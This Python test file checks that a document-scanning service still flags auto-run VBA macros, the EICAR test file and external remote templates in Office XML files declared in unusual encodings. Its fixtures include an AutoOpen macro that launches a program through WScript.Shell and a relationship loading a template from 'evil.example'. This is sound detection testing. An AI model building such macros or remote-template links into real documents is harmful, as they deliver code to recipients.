"""XML documents in an encoding that Office knows and expat does not: what is in them is found anyway."""

from __future__ import annotations

import base64

import pytest

from bridge.service.analysis.inspection import inspect
from bridge.service.analysis.limits import Limits
from tests.service.service_kit import EICAR, attached, zipped
from tests.service.test_service_documents import ole, vba

_MACRO = b'Attribute VB_Name = "M"\r\nSub AutoOpen()\r\nCreateObject("WScript.Shell").Run "calc"\r\nEnd Sub\r\n'
_ENCODINGS = [b"utf-8", b"shift_jis", b"gb2312", b"big5", b"euc-kr", b"windows-874", b"x-ansi", b"ISO-8859-8-I"]


def flat(encoding: bytes, content: bytes) -> bytes:
    """A Word document as one XML file."""
    return (
        b'<?xml version="1.0" encoding="%b"?><?mso-application progid="Word.Document"?>'
        b'<pkg:package xmlns:pkg="http://schemas.microsoft.com/office/2006/xmlPackage"><pkg:part><pkg:binaryData>%b'
        b"</pkg:binaryData></pkg:part></pkg:package>" % (encoding, base64.b64encode(content))
    )


@pytest.mark.parametrize("encoding", _ENCODINGS)
def test_a_declared_encoding_hid_macros_and_files(encoding: bytes) -> None:
    tags = inspect(attached(flat(encoding, ole({"M": vba(_MACRO)})), "a.doc"), Limits()).tags
    assert {"mime:macro", "office:auto-macro", "office:macro-runs-program"} <= set(tags)
    file = flat(encoding, zipped(("eicar.com", EICAR)))
    assert "malware:eicar" in inspect(attached(file, "a.xml"), Limits()).tags


@pytest.mark.parametrize("encoding", _ENCODINGS)
def test_a_declared_encoding_hid_a_remote_template(encoding: bytes) -> None:
    """With a prefix that our patterns do not expect."""
    relations = (
        b'<?xml version="1.0" encoding="%b"?><a-b:Relationships '
        b'xmlns:a-b="http://schemas.openxmlformats.org/package/2006/relationships"><a-b:Relationship Id="r" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" '
        b'Target="https://evil.example/a.dotm" TargetMode="External"/></a-b:Relationships>' % encoding
    )
    content = zipped(("[Content_Types].xml", b"<Types/>"), ("word/_rels/settings.xml.rels", relations))
    found = inspect(attached(content, "a.docx"), Limits())
    assert "office:remote-template" in found.tags and "evil.example" in found.hosts
